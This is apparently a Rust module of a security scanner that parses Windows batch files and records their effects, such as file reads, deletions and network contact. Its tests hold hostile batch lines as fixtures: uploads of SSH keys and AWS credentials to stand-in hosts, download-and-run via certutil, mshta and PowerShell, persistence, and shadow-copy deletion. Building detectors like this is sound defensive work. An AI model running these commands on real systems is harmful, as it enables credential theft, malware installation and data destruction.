//! Batch files → operations: variables are put in first, as `cmd` does, then
//! each line is cut into commands.

use std::collections::HashMap;

use crate::scan::operation::{Event, Lowered, Origins};
use crate::text::Span;

use super::kit::datum::Datum;
use super::kit::effect::Effects;
use super::kit::{home, program};

/// Longest line that is looked at, variables put in.
const MAX_LINE: usize = 32 << 10;
/// First of the letters that stand for a value that is no known text.
const MARK: u32 = 0xe000;
/// Most of those.
const MAX_MARKS: usize = 4096;
/// Most commands inside commands of one line (`if … for … do …`).
const MAX_NESTING: usize = 16;

/// Lowers `text`.
#[must_use]
pub fn lower(text: &str) -> Lowered {
    let mut walk = Walk {
        effects: Effects::default(),
        variables: HashMap::new(),
        marks: Vec::new(),
    };
    let mut place = 0;
    let mut line = String::new();
    let mut start = 0;
    let mut comments = Vec::new();
    for piece in text.split_inclusive('\n') {
        if line.is_empty() {
            start = place;
        }
        place += piece.len();
        let bare = piece.trim_end_matches(['\r', '\n']);
        if let Some(head) = bare.strip_suffix('^').filter(|_| line.len() < MAX_LINE) {
            line.push_str(head);
            continue;
        }
        line.push_str(bare);
        let whole = std::mem::take(&mut line);
        let span = Span::new(start, start + (place - start).min(whole.len().max(bare.len())));
        let trimmed = whole.trim_start().trim_start_matches('@').trim_start();
        let lower = trimmed.get(..4).unwrap_or(trimmed).to_ascii_lowercase();
        if trimmed.starts_with("::") || lower.trim_end() == "rem" {
            comments.push(span);
        } else if !trimmed.starts_with(':') && !trimmed.is_empty() {
            walk.line(trimmed, span);
        }
    }
    if !line.is_empty() {
        walk.line(&line, Span::new(start, text.len()));
    }
    let mut lowered = walk.effects.finish();
    lowered.comments = comments;
    lowered
}

struct Walk {
    effects: Effects,
    variables: HashMap<String, Datum>,
    /// Values that stand in the line as one letter each.
    marks: Vec<Datum>,
}

/// One command of a line.
struct Command {
    words: Vec<String>,
    /// Files that its output goes to.
    outputs: Vec<String>,
    /// Files that its input comes from.
    inputs: Vec<String>,
    /// Its output goes to the next one.
    piped: bool,
}

impl Walk {
    fn line(&mut self, line: &str, span: Span) {
        self.marks.clear();
        let expanded = self.expand(line);
        if !self.effects.afford(expanded.len() + 64) {
            return;
        }
        let mut input = Datum::default();
        for command in commands(&expanded) {
            let mut words: &[String] = &command.words;
            let mut output = Datum::default();
            for _ in 0..MAX_NESTING {
                match self.leading(words, span) {
                    Some(rest) => words = rest,
                    None => break,
                }
            }
            if !words.is_empty() {
                let mut given = std::mem::take(&mut input);
                for file in &command.inputs {
                    let path = self.datum(file);
                    given = self.effects.read(span, "<", &path);
                }
                output = self.command(words, span, &given);
            }
            for file in &command.outputs {
                let path = self.datum(file);
                if !file.eq_ignore_ascii_case("nul") {
                    self.effects.write(span, ">", &path, &output);
                }
            }
            input = if command.piped { output } else { Datum::default() };
        }
    }

    /// A line with its variables put in.
    fn expand(&mut self, line: &str) -> String {
        let mut expanded = String::new();
        let mut rest = line;
        while let Some(at) = rest.find(['%', '!']) {
            expanded.push_str(&rest[..at]);
            let sign = rest.as_bytes()[at];
            let behind = &rest[at + 1..];
            if expanded.len() > MAX_LINE {
                break;
            }
            // `%%i`, `%1`, `%~dp0`.
            if sign == b'%' && behind.starts_with(['%', '*', '~']) || sign == b'%' && behind.starts_with(|letter: char| letter.is_ascii_digit()) {
                let skip = behind.bytes().take_while(|byte| matches!(byte, b'%' | b'*' | b'~')).count();
                let modifiers = if behind[..skip].contains('~') {
                    behind[skip..].bytes().take_while(|byte| b"fdpnxsatzFDPNXSATZ".contains(byte)).count()
                } else {
                    0
                };
                // The last of the letters is the name.
                let digit = behind[skip + modifiers..].starts_with(|letter: char| letter.is_ascii_digit());
                let modifiers = if digit { modifiers } else { modifiers.saturating_sub(1) };
                let name: String = behind[skip + modifiers..].chars().take(1).collect();
                rest = &behind[skip + modifiers + name.len()..];
                if digit {
                    if name == "0" {
                        expanded.push_str(".\\");
                    } else {
                        self.put(&mut expanded, Datum::from(Origins::INPUT));
                    }
                } else {
                    let held = self.variables.get(&format!("%{}", name.to_ascii_lowercase())).cloned();
                    self.put(&mut expanded, held.unwrap_or_else(Datum::unknown));
                }
                continue;
            }
            let close = behind.bytes().take(128).position(|byte| byte == sign);
            let Some(close) = close.filter(|close| *close > 0 && behind.is_char_boundary(*close)) else {
                expanded.push(char::from(sign));
                rest = behind;
                continue;
            };
            let (name, change) = match behind[..close].split_once(':') {
                Some((name, change)) => (name, Some(change)),
                None => (&behind[..close], None),
            };
            let plain = name.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"_-.()# $@[]".contains(&byte));
            if !plain || (sign == b'!' && name.contains(' ')) {
                expanded.push(char::from(sign));
                rest = behind;
                continue;
            }
            rest = &behind[close + 1..];
            let value = self.value(name);
            let value = match change {
                Some(change) => value.with_text(value.text().and_then(|text| changed(text, change))),
                None => value,
            };
            self.put(&mut expanded, value);
        }
        expanded.push_str(rest);
        expanded.truncate(expanded.floor_char_boundary(MAX_LINE));
        expanded
    }

    fn value(&mut self, name: &str) -> Datum {
        let lower = name.to_ascii_lowercase();
        match self.variables.get(&lower) {
            Some(value) => value.clone(),
            None if matches!(lower.as_str(), "cd" | "random" | "date" | "time" | "errorlevel" | "cmdcmdline") => Datum::unknown(),
            None => self.effects.variable(Span::default(), "%", &name.to_ascii_uppercase()),
        }
    }

    /// A value in the line: as its text, or as one letter that stands for it.
    fn put(&mut self, line: &mut String, value: Datum) {
        match value.text() {
            Some(text) if value.value.origins.is_constant() => line.push_str(text),
            _ => {
                let index = self.marks.len().min(MAX_MARKS - 1);
                if self.marks.len() < MAX_MARKS {
                    self.marks.push(value);
                }
                let mark = u32::try_from(index).ok().and_then(|index| char::from_u32(MARK + index));
                line.extend(mark);
            }
        }
    }

    /// A word with the values that stand in it.
    fn datum(&self, word: &str) -> Datum {
        let mut parts = Vec::new();
        let mut plain = String::new();
        for letter in word.chars() {
            let index = u32::from(letter).checked_sub(MARK).and_then(|index| usize::try_from(index).ok());
            match index.and_then(|index| self.marks.get(index)) {
                Some(value) => {
                    parts.push(Datum::constant(std::mem::take(&mut plain)));
                    parts.push(value.clone());
                }
                None => plain.push(letter),
            }
        }
        parts.push(Datum::constant(plain));
        Datum::joined(&parts, "")
    }

    fn all(&self, words: &[String]) -> Vec<Datum> {
        words.iter().map(|word| self.datum(word)).collect()
    }

    /// What stands in front of a command: `if …`, `for … do`, `call`, `else`.
    fn leading<'a>(&mut self, words: &'a [String], span: Span) -> Option<&'a [String]> {
        let first = words.first()?.to_ascii_lowercase();
        match first.as_str() {
            "if" => {
                let mut at = 1;
                while words.get(at).is_some_and(|word| word.eq_ignore_ascii_case("/i") || word.eq_ignore_ascii_case("not")) {
                    at += 1;
                }
                let condition = words.get(at)?.to_ascii_lowercase();
                let skip = match condition.as_str() {
                    "exist" | "defined" | "errorlevel" | "cmdextversion" => 2,
                    condition if condition.contains("==") => 1,
                    // `a == b`, `a equ b`.
                    _ => 3,
                };
                words.get(at + skip..)
            }
            "else" | "call" | "do" | "(" => words.get(1..).filter(|rest| !rest.first().is_some_and(|word| word.starts_with(':'))),
            "for" => self.each(words, span),
            _ => None,
        }
    }

    /// `for /f "…" %%i in ('command') do …`.
    fn each<'a>(&mut self, words: &'a [String], span: Span) -> Option<&'a [String]> {
        let into = words.iter().position(|word| word.eq_ignore_ascii_case("in"))?;
        let behind = words.iter().position(|word| word.eq_ignore_ascii_case("do"))?;
        let name = words.get(into.checked_sub(1)?)?;
        let name = name.trim_start_matches('%').to_ascii_lowercase();
        let list = words.get(into + 1..behind)?;
        let joined = list.join(" ");
        let inner = joined.trim_matches(['(', ')', ' ']);
        let lines = words.get(1).is_some_and(|word| word.eq_ignore_ascii_case("/f"));
        let value = match inner.strip_prefix('\'').and_then(|inner| inner.strip_suffix('\'')) {
            Some(command) if lines => {
                let words: Vec<String> = command.split_whitespace().map(str::to_owned).collect();
                if words.is_empty() { Datum::unknown() } else { self.command(&words, span, &Datum::default()) }
            }
            _ if lines => {
                let path = self.datum(inner);
                self.effects.read(span, "for", &path)
            }
            _ => self.datum(inner).vague(),
        };
        // The variable was put in as a mark before: that mark is this value.
        for mark in &mut self.marks {
            if mark.value.origins == Origins::UNKNOWN && mark.text().is_none() {
                *mark = value.clone();
            }
        }
        if self.variables.len() < MAX_MARKS {
            self.variables.insert(format!("%{name}"), value);
        }
        words.get(behind + 1..)
    }

    /// Runs one command; what it prints.
    fn command(&mut self, words: &[String], span: Span, input: &Datum) -> Datum {
        let Some(first) = words.first() else {
            return Datum::default();
        };
        let name = home::program(first.trim_start_matches('@'));
        let rest = &words[1..];
        let paths = |walk: &Self| -> Vec<Datum> {
            let paths = rest.iter().filter(|word| !(word.starts_with('/') && word.len() <= 4));
            paths.map(|word| walk.datum(word)).collect()
        };
        let flag = |letter: &str| rest.iter().any(|word| word.to_ascii_lowercase().starts_with(letter));
        match name.as_str() {
            "set" => {
                self.set(rest, span);
                if rest.is_empty() { self.effects.environment(span, "set") } else { Datum::default() }
            }
            "echo" | "echo." => self.datum(&rest.join(" ")),
            "type" | "more" => {
                let mut content = input.clone();
                for path in paths(self) {
                    let read = self.effects.read(span, "type", &path);
                    content = Datum::merged([&content, &read]);
                }
                content
            }
            "del" | "erase" | "rd" | "rmdir" => {
                let recursive = flag("/s");
                for path in paths(self) {
                    self.effects.delete(span, &name, &path, recursive);
                }
                Datum::default()
            }
            "copy" | "move" | "xcopy" | "robocopy" | "ren" | "rename" => {
                let paths = paths(self);
                if let Some((to, from)) = paths.split_last() {
                    for from in from {
                        self.effects.copy(span, &name, from, to);
                    }
                }
                Datum::default()
            }
            "start" => {
                let behind = rest.iter().position(|word| !word.is_empty() && !word.starts_with('/') && !word.contains(' ')).unwrap_or(rest.len());
                if rest.is_empty() || behind == rest.len() { return Datum::default() }
                self.command(&rest[behind..], span, input)
            }
            "rem" | "goto" | "exit" | "setlocal" | "endlocal" | "title" | "color" | "cls" | "pause" | "cd" | "chdir" | "md" | "mkdir" | "pushd" | "popd" | "ver" | "verify" | "shift"
            | "break" | "call" | "timeout" | "prompt" | "path" | ")" | "(" => Datum::default(),
            _ => {
                let mut all = self.all(words);
                if let Some(program) = all.first_mut() {
                    let plain = program.text().map(|text| text.trim_start_matches('@').to_owned());
                    *program = program.with_text(plain);
                }
                program::run(&mut self.effects, span, &name, &all, input)
            }
        }
    }

    fn set(&mut self, rest: &[String], span: Span) {
        let joined = rest.join(" ");
        let mut text = joined.trim();
        let asked = text.get(..2).is_some_and(|flag| flag.eq_ignore_ascii_case("/p"));
        let sum = text.get(..2).is_some_and(|flag| flag.eq_ignore_ascii_case("/a"));
        if asked || sum {
            text = text[2..].trim_start();
        }
        let Some((name, value)) = text.split_once('=') else { return };
        let value = if asked {
            Datum::from(Origins::INPUT)
        } else {
            self.datum(value)
        };
        let name = name.trim().trim_start_matches('"').to_ascii_lowercase();
        let value = value.step(span, Event::Assign(format!("%{name}%")));
        if self.variables.len() < MAX_MARKS {
            self.variables.insert(name, value);
        }
    }
}

/// `%A:x=y%` and `%A:~2,3%`.
fn changed(text: &str, change: &str) -> Option<String> {
    if let Some(range) = change.strip_prefix('~') {
        let letters: Vec<char> = text.chars().collect();
        let length = i64::try_from(letters.len()).ok()?;
        let (from, count) = match range.split_once(',') {
            Some((from, count)) => (from, Some(count.trim().parse::<i64>().ok()?)),
            None => (range, None),
        };
        let from = from.trim().parse::<i64>().ok()?;
        let from = if from < 0 { (length + from).max(0) } else { from.min(length) };
        let to = match count {
            Some(count) if count < 0 => length + count,
            Some(count) => from.saturating_add(count).min(length),
            None => length,
        };
        let (from, to) = (usize::try_from(from).ok()?, usize::try_from(to.max(from)).ok()?);
        return Some(letters[from..to].iter().collect());
    }
    let (from, to) = change.split_once('=')?;
    let from = from.trim_start_matches('*');
    if from.is_empty() || text.len() * to.len().max(1) > MAX_LINE * 8 {
        return None;
    }
    // Any case.
    let lower = text.to_ascii_lowercase();
    let mut result = String::new();
    let mut at = 0;
    for (found, _) in lower.match_indices(&from.to_ascii_lowercase()) {
        result.push_str(&text[at..found]);
        result.push_str(to);
        at = found + from.len();
    }
    result.push_str(&text[at..]);
    Some(result)
}

/// The commands of a line, with its quotes and carets taken as such.
fn commands(line: &str) -> Vec<Command> {
    let mut found = Vec::new();
    let mut command = Command {
        words: Vec::new(),
        outputs: Vec::new(),
        inputs: Vec::new(),
        piped: false,
    };
    let mut word = String::new();
    let mut quoted = false;
    let mut had_quotes = false;
    // Inside `in (…)` nothing ends a command.
    let mut list = false;
    let mut target: Option<char> = None;
    let mut letters = line.chars().peekable();
    let finish = |word: &mut String, had_quotes: &mut bool, target: &mut Option<char>, command: &mut Command| {
        if word.is_empty() && !*had_quotes {
            return;
        }
        let word = std::mem::take(word);
        *had_quotes = false;
        match target.take() {
            Some('>') => command.outputs.push(word),
            Some(_) => command.inputs.push(word),
            None => command.words.push(word),
        }
    };
    while let Some(letter) = letters.next() {
        match letter {
            '"' => {
                quoted = !quoted;
                had_quotes = true;
            }
            _ if quoted => word.push(letter),
            '^' => word.extend(letters.next()),
            '(' if command.words.last().is_some_and(|last| last.eq_ignore_ascii_case("in")) || list => {
                list = true;
                word.push(letter);
            }
            ')' if list => {
                list = false;
                word.push(letter);
                finish(&mut word, &mut had_quotes, &mut target, &mut command);
            }
            '&' | '|' | '(' | ')' if !list && !(letter == '&' && word.is_empty() && target.is_some()) => {
                let stays = letter == '(' && !word.is_empty() || letter == ')' && word.contains('(');
                if stays {
                    word.push(letter);
                    continue;
                }
                finish(&mut word, &mut had_quotes, &mut target, &mut command);
                let twice = letters.next_if(|next| *next == letter && letter != '(' && letter != ')').is_some();
                let starts = letter == '(' && !command.words.is_empty();
                if starts {
                    // `if … (command`, `do (command`.
                    continue;
                }
                command.piped = letter == '|' && !twice;
                let done = std::mem::replace(
                    &mut command,
                    Command {
                        words: Vec::new(),
                        outputs: Vec::new(),
                        inputs: Vec::new(),
                        piped: false,
                    },
                );
                found.push(done);
            }
            '>' | '<' if !list => {
                // `2>nul`: the number is no word.
                if word.len() == 1 && word.bytes().all(|byte| byte.is_ascii_digit()) {
                    word.clear();
                }
                finish(&mut word, &mut had_quotes, &mut target, &mut command);
                letters.next_if(|next| *next == '>');
                if letters.next_if(|next| *next == '&').is_some() {
                    letters.next();
                } else {
                    target = Some(letter);
                }
            }
            ' ' | '\t' | ',' | ';' if !list || letter == ' ' => finish(&mut word, &mut had_quotes, &mut target, &mut command),
            _ => word.push(letter),
        }
    }
    finish(&mut word, &mut had_quotes, &mut target, &mut command);
    found.push(command);
    found
}

#[cfg(test)]
mod tests {
    use super::super::kit::words::{endures, hold};
    use super::*;

    #[test]
    fn what_batch_files_do() {
        hold(
            lower,
            &[
                ("del /s /q C:\\Users", "delete all C:\\Users"),
                ("rd /s /q %USERPROFILE%", "delete all ~"),
                ("set a=cu\nset b=rl\n%a%%b% https://get.example.com/i.exe -o i.exe & i.exe", "eval net"),
                ("powershell -nop -enc ZQBjAGgAbwAgAGgAaQA=", "eval decoded echo hi"),
                ("p^ower^shell -c \"iex (irm https://get.example.com)\"", "eval iex (irm https://get.example.com)"),
                ("certutil -urlcache -split -f https://get.example.com/a.exe %TEMP%\\a.exe\nstart \"\" %TEMP%\\a.exe", "eval net"),
                ("@echo off\nif exist x (curl -d @%USERPROFILE%\\.ssh\\id_rsa https://c.example.com)", "contact https://c.example.com <- sensitive"),
                ("set | curl -d @- https://c.example.com", "contact https://c.example.com <- env"),
                ("curl https://c.example.com/?k=%DEMO_KEY%", "contact var <- var"),
                ("for /f %%i in ('type %USERPROFILE%\\.aws\\credentials') do curl https://c.example.com/%%i", "contact sensitive file <- sensitive"),
                ("reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d a.exe", "write HKCU\\Software"),
                ("schtasks /create /tn x /tr a.exe", "run schtasks [schtasks /create /tn x /tr a.exe]"),
                ("vssadmin delete shadows /all /quiet", "run vssadmin [vssadmin delete shadows /all /quiet]"),
                ("set x=xvssadmin\n%x:~1% delete shadows", "run vssadmin [vssadmin delete shadows"),
                ("mshta https://get.example.com/a.hta", "eval net"),
                ("cmd /c \"del /q a.txt\"", "eval del /q a.txt"),
                ("echo x > \"%APPDATA%\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\a.bat\"", "write ~/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/a.bat <- x"),
                ("python \"%~dp0run.py\" %*", "run python"),
            ],
            &[
                ("rem curl https://c.example.com", "contact"),
                (":: del /s C:\\", "delete"),
                ("echo del /s C:\\", "delete"),
                ("call :label\n:label\nexit /b", "run"),
            ],
        );
    }

    #[test]
    fn hostile_batch_files_are_lowered_in_linear_time() {
        let texts = [
            "%".repeat(300_000),
            "%a%".repeat(100_000),
            "set a=aaaaaaaaaa\n".to_owned() + &"set a=%a%%a%\n".repeat(20_000),
            "(".repeat(300_000),
            "for %%i in (".repeat(50_000),
            "if a==b ".repeat(50_000),
            "^\n".repeat(200_000),
            "a&".repeat(200_000),
            "\"".repeat(300_000),
            "call ".repeat(100_000),
            "start ".repeat(2_000),
            "%~f".repeat(50_000),
            "\u{e000}".repeat(50_000),
            "x".repeat(1 << 20),
        ];
        endures(lower, &texts);
    }
}
